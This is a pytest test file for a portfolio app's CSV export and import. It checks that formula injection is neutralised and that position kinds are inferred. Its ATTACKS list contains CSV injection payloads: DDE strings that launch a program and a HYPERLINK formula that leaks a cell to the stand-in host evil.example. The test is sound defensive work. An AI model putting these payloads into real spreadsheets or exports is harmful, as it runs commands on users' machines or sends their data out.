"""CSV export against formula injection (OWASP), and the kinds the import infers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from portfolio.csvio import (
    CsvImportError,
    export_positions,
    import_positions,
    neutralise,
    restore,
)
from portfolio.models import Position
from tests.factories import OptionPositionFactory, PortfolioFactory, PositionFactory

pytestmark = pytest.mark.django_db

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _exported_rows(portfolio) -> list[dict[str, str]]:
    buf = io.StringIO()
    export_positions(portfolio, buf)
    return list(csv.DictReader(io.StringIO(buf.getvalue(), newline="")))


@pytest.mark.parametrize("note", ATTACKS)
def test_no_exported_text_cell_starts_a_formula(note):
    pf = PortfolioFactory()
    PositionFactory(portfolio=pf, note=note)
    (row,) = _exported_rows(pf)
    assert row["note"] == "'" + note
    for column, cell in row.items():
        if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
            Decimal(cell)  # only a number may start with "-"
            assert column in ("quantity", "cost_basis"), column


def test_negative_quantities_stay_numbers():
    pf = PortfolioFactory()
    OptionPositionFactory(portfolio=pf, quantity=Decimal(-10), note="-10 short calls")
    (row,) = _exported_rows(pf)
    assert row["quantity"] == "-10"
    assert row["note"] == "'-10 short calls"


@pytest.mark.parametrize(
    "note", [*ATTACKS, "'=already quoted", "'", "''", "it's fine", "plain", "", "a=b"]
)
def test_our_export_imports_back_unchanged(note):
    src = PortfolioFactory()
    OptionPositionFactory(portfolio=src, quantity=Decimal(-10), note=note)
    buf = io.StringIO()
    export_positions(src, buf)
    (pos,) = import_positions(buf.getvalue(), PortfolioFactory())
    assert pos.note == note
    assert pos.quantity == Decimal(-10)
    assert pos.kind == Position.Kind.OPTION


@pytest.mark.parametrize("text", [*ATTACKS, "'", "'x", "''", "x", "", "-", "=", "10", "-10"])
def test_restore_inverts_neutralise(text):
    assert restore(neutralise(text)) == text


def test_a_hand_written_apostrophe_before_plain_text_is_kept():
    assert restore("'hello") == "'hello"
    assert restore("'-5") == "-5"  # a spreadsheet's "text, not formula" marker


HEADER = "symbol,kind,quantity,cost_basis,expiry,strike,right,units_per_share,note\n"


@pytest.mark.parametrize(
    ("row", "kind"),
    [
        ("GLD,,100,180,,,,0.0934,bars", Position.Kind.PHYSICAL),
        ("GLD,,100,180,,,,,shares", Position.Kind.UNDERLYING),
        ("GLD,,1,3.5,2026-08-21,180,P,,put", Position.Kind.OPTION),
    ],
)
def test_kind_is_inferred_when_left_empty(row, kind):
    (pos,) = import_positions(HEADER + row + "\n", PortfolioFactory())
    assert pos.kind == kind
    if kind == Position.Kind.PHYSICAL:
        assert pos.units_per_share == Decimal("0.0934")


@pytest.mark.parametrize(
    ("row", "missing"),
    [
        ("GLD,,1,3.5,,180,,,strike only", {"expiry", "right"}),
        ("GLD,,1,3.5,,,P,,", {"expiry", "strike"}),
    ],
)
def test_a_strike_or_a_right_makes_an_option_that_then_needs_the_rest(row, missing):
    with pytest.raises(CsvImportError) as exc:
        import_positions(HEADER + row + "\n", PortfolioFactory())
    assert {e.field for e in exc.value.errors} == missing
